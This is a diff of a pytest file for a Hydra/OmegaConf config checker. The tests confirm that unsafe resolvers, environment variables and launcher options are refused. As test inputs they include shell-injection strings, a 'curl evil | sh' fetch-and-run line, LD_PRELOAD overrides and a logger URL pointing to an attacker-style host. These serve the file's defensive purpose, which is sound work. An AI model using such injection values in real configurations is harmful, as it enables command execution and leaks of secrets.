@@ -27,7 +27,7 @@ def composed(*overrides: str):
         return compose("config", overrides=list(overrides), return_hydra_config=True)
 
 
-def refused(argv: list[str], *fragments: str) -> str:
+def expect_refused(argv: list[str], *fragments: str) -> str:
     with pytest.raises(ConfigError) as info:
         check_command_line(argv)
     for fragment in fragments:
@@ -42,7 +42,7 @@ def refused(argv: list[str], *fragments: str) -> str:
 def test_resolvers_outside_the_allowlist_are_refused_anywhere(resolver):
     raw = f"${{{resolver}:'x'}}"
     for where in ("model.hidden", "+hydra.callbacks.x", "+hydra.job.env_set.OMP_NUM_THREADS", "tags"):
-        refused([f'{where}="{raw}"'], f"the resolver {resolver} is not one a config may use")
+        expect_refused([f'{where}="{raw}"'], f"the resolver {resolver} is not one a config may use")
     with pytest.raises(ConfigError, match=f"resolver {resolver}"):
         check_targets(OmegaConf.create({"a": {"b": [f"x{raw}"]}}))
     nested = OmegaConf.create({"a": f"${{oc.select:b,{raw}}}"})
@@ -54,17 +54,17 @@ def test_a_decoded_target_never_reaches_instantiate():
     """The payload of issue 24: oc.decode turned text into a ``_target_`` the checker never saw."""
     with pytest.raises(ConfigError, match="the resolver oc.decode"):
         check_targets(OmegaConf.create({"model": {"x": DECODE}}))
-    refused([f'+model.x="{DECODE}"'], "model.x=", "oc.decode")
-    refused([f'+hydra.callbacks.x="{DECODE}"'], "hydra.callbacks.x=", "oc.decode")
+    expect_refused([f'+model.x="{DECODE}"'], "model.x=", "oc.decode")
+    expect_refused([f'+hydra.callbacks.x="{DECODE}"'], "hydra.callbacks.x=", "oc.decode")
 
 
 def test_a_preset_cannot_use_a_resolver_that_builds_nodes(tmp_path):
     presets = tmp_path / "presets" / "experiment"
     presets.mkdir(parents=True)
     (presets / "fancy.yaml").write_text(f"# @package _global_\nmodel:\n  extra: \"{DECODE}\"\n")
-    refused(["--config-dir", str(tmp_path / "presets"), "experiment=fancy"], "model.extra=", "oc.decode")
+    expect_refused(["--config-dir", str(tmp_path / "presets"), "experiment=fancy"], "model.extra=", "oc.decode")
     (presets / "env.yaml").write_text("# @package _global_\ntags: ['${oc.env:WANDB_API_KEY,none}']\n")
-    refused(["--config-dir", str(tmp_path / "presets"), "experiment=env"], "tags[0]=", "oc.env")
+    expect_refused(["--config-dir", str(tmp_path / "presets"), "experiment=env"], "tags[0]=", "oc.env")
 
 
 def test_a_node_made_at_resolve_time_is_checked_like_any_other(monkeypatch):
@@ -79,9 +79,9 @@ def test_a_node_made_at_resolve_time_is_checked_like_any_other(monkeypatch):
 
 
 def test_the_allowed_resolvers_still_work():
-    check_command_line(["experiment=cifar10_resnet18_class"])
-    check_targets(composed("unlearner=boundary_shrink"))
-    check_targets(OmegaConf.create({"a": 1, "b": "${a}", "c": "${oc.select:a,2}", "d": "x_${now:%Y}"}))
+    assert check_command_line(["experiment=cifar10_resnet18_class"]) is None  # None: not refused
+    assert check_targets(composed("unlearner=boundary_shrink")) is None
+    assert check_targets(OmegaConf.create({"a": 1, "b": "${a}", "c": "${oc.select:a,2}", "d": "x_${now:%Y}"})) is None
 
 
 @pytest.mark.slow
@@ -106,18 +106,18 @@ def test_a_decoded_hydra_callback_does_not_run_at_start_up(tmp_path):
     ("LD_PRELOAD", "/tmp/x.so"), ("PYTHONPATH", "/tmp"), ("MU_LIGHTNING_ALLOW", "os.*"), ("HTTPS_PROXY", "h:1"),
 ])
 def test_env_set_allows_only_the_variables_the_project_needs(name, value):
-    refused([f"+hydra.job.env_set.{name}={value}"], f"hydra.job.env_set.{name} is not allowed",
+    expect_refused([f"+hydra.job.env_set.{name}={value}"], f"hydra.job.env_set.{name} is not allowed",
             "a config may set only")
 
 
 def test_env_set_values_are_checked_and_wandb_online_is_for_the_shell_only(tmp_path):
-    refused(["+hydra.job.env_set.WANDB_MODE=online"], "hydra.job.env_set.WANDB_MODE='online' is not allowed")
-    refused(["+hydra.job.env_set.OMP_NUM_THREADS='4; touch x'"], "OMP_NUM_THREADS=")
+    expect_refused(["+hydra.job.env_set.WANDB_MODE=online"], "hydra.job.env_set.WANDB_MODE='online' is not allowed")
+    expect_refused(["+hydra.job.env_set.OMP_NUM_THREADS='4; touch x'"], "OMP_NUM_THREADS=")
     presets = tmp_path / "presets" / "logger"
     presets.mkdir(parents=True)
     (presets / "team.yaml").write_text("# @package _global_\nhydra:\n  job:\n    env_set:\n"
                                        "      WANDB_BASE_URL: https://wandb.evil.example\n      WANDB_MODE: online\n")
-    refused(["--config-dir", str(tmp_path / "presets"), "logger=team"], "hydra.job.env_set.WANDB_BASE_URL")
+    expect_refused(["--config-dir", str(tmp_path / "presets"), "logger=team"], "hydra.job.env_set.WANDB_BASE_URL")
     check_command_line(["+hydra.job.env_set.CUDA_VISIBLE_DEVICES=0,1", "+hydra.job.env_set.WANDB_MODE=offline",
                         "+hydra.job.env_set.OMP_NUM_THREADS=2"])
 
@@ -128,9 +128,9 @@ def test_env_set_values_are_checked_and_wandb_online_is_for_the_shell_only(tmp_p
 @pytest.mark.parametrize("value", ["gpu\\ntouch /tmp/x", "gpu;touch x", "gpu$(touch x)", "gpu`id`", "a|b", "a>b"])
 def test_launcher_strings_with_shell_characters_are_refused(value):
     pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
-    refused(["hydra/launcher=slurm", f"hydra.launcher.partition='{value}'"], "hydra.launcher.partition=",
+    expect_refused(["hydra/launcher=slurm", f"hydra.launcher.partition='{value}'"], "hydra.launcher.partition=",
             "launcher options are written into a shell script")
-    refused(["hydra/launcher=slurm", f"+hydra.launcher.additional_parameters={{mail_user: '{value}'}}"],
+    expect_refused(["hydra/launcher=slurm", f"+hydra.launcher.additional_parameters={{mail_user: '{value}'}}"],
             "hydra.launcher.additional_parameters.mail_user=")
 
 
@@ -139,6 +139,6 @@ def test_a_newline_in_a_preset_launcher_option_is_refused(tmp_path):
     presets = tmp_path / "presets" / "hydra" / "launcher"
     presets.mkdir(parents=True)
     (presets / "cluster.yaml").write_text("defaults:\n  - slurm\npartition: \"gpu\\ncurl evil | sh\"\n")
-    refused(["--config-dir", str(tmp_path / "presets"), "hydra/launcher=cluster"], "hydra.launcher.partition=",
+    expect_refused(["--config-dir", str(tmp_path / "presets"), "hydra/launcher=cluster"], "hydra.launcher.partition=",
             "'\\n'")
     check_command_line(["hydra/launcher=slurm", "hydra.launcher.partition=gpu-a100", "hydra.launcher.account=lab_1"])
